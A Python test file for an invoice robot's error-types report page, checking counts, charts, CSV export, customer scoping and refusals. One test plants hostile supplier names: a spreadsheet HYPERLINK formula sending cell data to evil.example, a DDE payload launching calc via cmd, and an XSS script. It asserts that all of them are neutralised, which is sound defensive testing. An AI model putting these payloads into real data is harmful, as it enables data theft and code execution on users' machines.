"""The Error types page: its reads equal the store's (counted again here in Python from the rows,
weeks from each invoice's time in Copenhagen), on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections import Counter, defaultdict
from datetime import date

import lxml.html
from fastapi.testclient import TestClient
from httpx import Response
from sqlalchemy import select, update

from robot.codes import Reason
from robot.store.repo import Store
from robot.store.schema import ErrorTypeRow, Event, FindingRow, InvoiceRow, InvoiceState, utcnow
from robot.web.reads import errortypes as reads
from tests.web.conftest import ClientAs
from tests.web.errortypes_store import CPH, LAST_DAY, populated

__all__ = ["populated"]  # the fixture, used by name

PERIOD = reads.period(LAST_DAY, 12)


def week_of(row: InvoiceRow) -> str | None:
    """The invoice's ISO week in Copenhagen, if it is in the period."""
    year, week, _ = row.received_at.astimezone(CPH).isocalendar()
    label = f"{year}-W{week:02d}"
    return label if label in PERIOD.labels else None


def rows_of(store: Store) -> list[InvoiceRow]:
    with store.sessions() as s:
        return list(s.scalars(select(InvoiceRow).order_by(InvoiceRow.id)))


def human(store: Store) -> set[int]:
    """Invoices with a person's decision in their journey."""
    with store.sessions() as s:
        events = s.scalars(select(Event).where(Event.invoice_id.is_not(None)))
        return {e.invoice_id for e in events if e.invoice_id and "by" in (e.detail or {})}


def test_the_period_is_whole_weeks_in_copenhagen() -> None:
    assert PERIOD.labels[0] == "2026-W38" and PERIOD.labels[-1] == "2026-W49"
    assert PERIOD.end.astimezone(CPH).isoformat() == "2026-12-07T00:00:00+01:00"
    assert reads.period(date(2027, 1, 1), 1).labels == ["2026-W53"]  # 2026 has 53 ISO weeks
    assert len(reads.period(LAST_DAY, 10_000).weeks) == reads.MAX_WEEKS
    assert len(reads.period(LAST_DAY, 0).weeks) == 1


def test_error_type_counts_equal_the_stores(populated: tuple[Store, dict[str, int]]) -> None:
    store, _ = populated
    rows = {r.id: r for r in rows_of(store)}
    with store.sessions() as s:
        coded = list(s.execute(select(ErrorTypeRow.invoice_id, ErrorTypeRow.code)))
    expected = Counter(
        (week_of(rows[i]), rows[i].customer_id, code) for i, code in coded if week_of(rows[i]) is not None
    )
    got = reads.error_type_counts(store, PERIOD)
    assert {(c.week, c.customer_id, c.code): c.invoices for c in got} == dict(expected)
    assert len({c.week for c in got}) >= 4  # the invoices really are spread over weeks
    # the boundary: the first moment of W49 is in W49, the second before it in W48
    first, second, before = sorted(rows)[:3]
    assert week_of(rows[first]) == "2026-W49" and week_of(rows[second]) == "2026-W48"
    assert week_of(rows[before]) is None
    mine = reads.error_type_counts(store, PERIOD, "SFE")
    assert {c.customer_id for c in mine} == {"SFE"}
    assert sum(c.invoices for c in mine) == sum(n for (_, cust, _), n in expected.items() if cust == "SFE")


def test_touchless_counts_posted_invoices_no_person_decided(populated: tuple[Store, dict[str, int]]) -> None:
    store, decided = populated
    touched = human(store)
    assert decided["released"] in touched and decided["returned"] in touched
    rows = rows_of(store)
    assert {r.id: r.state for r in rows}[decided["released"]] == InvoiceState.POSTED
    expected: dict[tuple[str, str | None], list[int]] = defaultdict(lambda: [0, 0, 0])
    for r in rows:
        week = week_of(r)
        if week is None or r.state not in InvoiceState.DONE:
            continue
        counts = expected[(week, r.customer_id)]
        counts[0] += 1
        counts[1] += r.state == InvoiceState.POSTED
        counts[2] += r.state == InvoiceState.POSTED and r.id not in touched
    got = reads.touchless(store, PERIOD)
    assert {(t.week, t.customer_id): [t.decided, t.posted, t.touchless] for t in got} == dict(expected)
    assert any(t.posted > t.touchless for t in got)  # the released invoice is posted, not touchless
    assert all(t.rate is None or 0 <= t.rate <= 1 for t in got)


def test_suppliers_and_rules_causing_holds_and_returns(populated: tuple[Store, dict[str, int]]) -> None:
    store, _ = populated
    rows = {r.id: r for r in rows_of(store) if week_of(r) is not None}
    with store.sessions() as s:
        findings = [
            f for f in s.scalars(select(FindingRow)) if f.invoice_id in rows and f.severity == "error"
        ]
    holding = {f.invoice_id for f in findings if f.disposition == "hold"}
    suppliers: dict[str | None, list[int]] = defaultdict(lambda: [0, 0])
    for r in rows.values():
        suppliers[r.supplier_key][0] += r.id in holding
        suppliers[r.supplier_key][1] += r.state == InvoiceState.RETURNED
    expected = {k: v for k, v in suppliers.items() if sum(v)}
    got = reads.suppliers(store, PERIOD, limit=1000)
    assert {s.supplier_key: [s.holds, s.returns] for s in got} == expected
    totals = [s.total for s in got]
    assert totals == sorted(totals, reverse=True)
    assert [s.supplier_key for s in reads.suppliers(store, PERIOD, limit=3)] == [
        s.supplier_key for s in got[:3]
    ]

    rules: dict[tuple[str, str], list[set[int]]] = defaultdict(lambda: [set(), set()])
    for f in findings:
        if f.disposition == "hold":
            rules[(f.code, f.reason)][0].add(f.invoice_id)
        elif rows[f.invoice_id].state == InvoiceState.RETURNED:
            rules[(f.code, f.reason)][1].add(f.invoice_id)
    want = {k: [len(h), len(r)] for k, (h, r) in rules.items() if h or r}
    found = reads.rules(store, PERIOD, limit=1000)
    assert {(r.code, r.reason): [r.holds, r.returns] for r in found} == want
    assert ("MANUAL-RETURN", "REF") in want  # the return by hand is the person's rule
    totals = [r.total for r in found]
    assert totals == sorted(totals, reverse=True)


def test_customers_of_the_period(populated: tuple[Store, dict[str, int]]) -> None:
    store, _ = populated
    expected = sorted({r.customer_id for r in rows_of(store) if week_of(r) and r.customer_id})
    assert reads.customers(store, PERIOD) == expected


def test_labels_come_from_the_code_list() -> None:
    assert reads.label_of("REF", "da") == "Manglende eller forkert reference"
    assert reads.label_of("REF", "en") == "Missing or wrong reference"
    assert reads.label_of("NOPE", "en") == "NOPE"


# --- the page and its CSV, over the demo world of tests/web/conftest.py -------------------------

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+4512345678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab & Co",
    "\rReturn <b>bold</b>",
)
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def this_period() -> reads.Period:
    return reads.period(utcnow().astimezone(CPH).date())


def page_tree(html: str) -> lxml.html.HtmlElement:
    return lxml.html.document_fromstring(html)


def table_rows(tree: lxml.html.HtmlElement, name: str) -> list[list[str]]:
    found = tree.xpath(f'//table[@id="table-{name}"]')
    assert len(found) == 1, f"no table {name}"
    return [
        [cell.text_content().strip() for cell in tr.xpath("./th|./td")] for tr in found[0].xpath("./tbody/tr")
    ]


def read_csv(answer: Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="fakturarobot-')
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_the_page_shows_every_chart_beside_its_numbers(web_store: Store, client_as: ClientAs) -> None:
    answer = client_as("viewer").get("/error-types")
    assert answer.status_code == 200, answer.text
    tree = page_tree(answer.text)
    for name in ("by-type", "by-week", "touchless", "suppliers", "rules"):
        section = tree.xpath(f'//section[h2[@id="h-{name}"]]')
        assert len(section) == 1, name
        svg = section[0].xpath(".//figure/svg")
        assert len(svg) == 1, f"{name}: no chart"
        assert section[0].xpath(f'.//table[@id="table-{name}"]'), f"{name}: no table"
        links = section[0].xpath(".//a[@download]/@href")
        assert links and links[0].startswith("/error-types.csv?") and f"table={name}" in links[0]
    # the numbers: invoices per error type, as the store has them (all received this week)
    with web_store.sessions() as s:
        stored = Counter(s.scalars(select(ErrorTypeRow.code)))
    shown = {row[0]: int(row[2]) for row in table_rows(tree, "by-type")}
    assert shown == dict(stored) and shown
    assert table_rows(tree, "by-type")[0][1] in {r.da for r in Reason}  # Danish labels by default
    assert not tree.xpath("//script[not(@src)]") and not tree.xpath("//*[@style]")


def test_english_labels(client_as: ClientAs) -> None:
    answer = client_as("viewer").get("/error-types?lang=en")
    assert "Missing or wrong reference" in answer.text and "Error types by week" in answer.text


def test_hostile_names_stay_text_in_charts_tables_and_csv(web_store: Store, client_as: ClientAs) -> None:
    keys = [s.supplier_key for s in reads.suppliers(web_store, this_period(), limit=100) if s.supplier_key]
    assert len(keys) > len(HOSTILE_NAMES)
    names = {key: name for key, name in zip(keys, (*HOSTILE_NAMES, SCRIPT), strict=False)}
    with web_store.sessions.begin() as s:
        for key, name in names.items():
            s.execute(update(InvoiceRow).where(InvoiceRow.supplier_key == key).values(supplier_name=name))
    viewer = client_as("viewer")
    html = viewer.get("/error-types").text
    assert SCRIPT not in html and "<b>bold</b>" not in html
    assert "&lt;script&gt;alert(" in html
    tree = page_tree(html)
    assert not tree.xpath("//img | //iframe | //script[not(@src)] | //*[local-name()='foreignObject']")
    assert not [a for el in tree.iter() if isinstance(el.tag, str) for a in el.attrib if a.startswith("on")]
    assert SCRIPT in [row[0] for row in table_rows(tree, "suppliers")]  # shown literally

    rows = read_csv(viewer.get("/error-types.csv?table=suppliers"))
    assert rows[0][:3] == ["Leverandør", "CVR/nøgle", "Tilbageholdt"]
    by_key = {row[1]: row for row in rows[1:]}
    for key, name in names.items():
        cell = by_key[key][0]
        if name.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + name, cell  # a spreadsheet shows it, never runs it
        else:
            assert cell == name
    expected = {
        s.supplier_key: [s.holds, s.returns, s.total] for s in reads.suppliers(web_store, this_period())
    }
    assert {row[1]: [int(n) for n in row[2:5]] for row in rows[1:]} == expected


def test_every_table_downloads_with_the_pages_numbers(client_as: ClientAs) -> None:
    viewer = client_as("viewer")
    tree = page_tree(viewer.get("/error-types?lang=en").text)
    for name in ("by-type", "by-week", "touchless", "suppliers", "rules", "by-customer", "counts"):
        rows = read_csv(viewer.get(f"/error-types.csv?table={name}&lang=en"))
        html = table_rows(tree, name)
        assert len(rows) - 1 == len(html), name
        for got, shown in zip(rows[1:], html, strict=True):
            assert len(got) == len(shown), name
            for cell, text in zip(got, shown, strict=True):
                if text.endswith(" %"):  # a rate: 0..1 in the CSV, a percentage on the page
                    assert f"{float(cell) * 100:.1f} %" == text, (name, got, shown)
                elif text == "–":
                    assert cell == "", (name, got, shown)
                else:
                    assert cell.lstrip("'") == text, (name, got, shown)


def test_a_person_of_one_customer_sees_only_that_customer(web_store: Store, client_as: ClientAs) -> None:
    mine = client_as("viewer", "SFE")
    for url in ("/error-types.csv?table=counts", "/error-types.csv?table=counts&customer=ITD"):
        rows = read_csv(mine.get(url))
        assert rows[1:] and {row[1] for row in rows[1:]} == {"SFE"}
    html = mine.get("/error-types?customer=ITD").text
    assert 'name="customer"' not in html  # no choice of customer to make
    everyone = read_csv(client_as("viewer").get("/error-types.csv?table=counts"))
    assert {row[1] for row in everyone[1:]} > {"SFE"}
    only = read_csv(client_as("viewer").get("/error-types.csv?table=counts&customer=ITD"))
    assert {row[1] for row in only[1:]} == {"ITD"}


def test_refusals(anon: TestClient, client_as: ClientAs) -> None:
    page = anon.get("/error-types", headers={"Accept": "text/html"}, follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"].startswith("/login")
    assert anon.get("/error-types.csv?table=counts").status_code == 401
    viewer = client_as("viewer")
    for bad in (
        "table=nope",
        "table=counts&weeks=0",
        f"table=counts&weeks={reads.MAX_WEEKS + 1}",
        "table=counts&until=yesterday",
    ):
        assert viewer.get(f"/error-types.csv?{bad}").status_code == 422, bad
    empty = viewer.get("/error-types?until=2020-01-01&weeks=2")
    assert empty.status_code == 200 and "Ingen i perioden." in empty.text
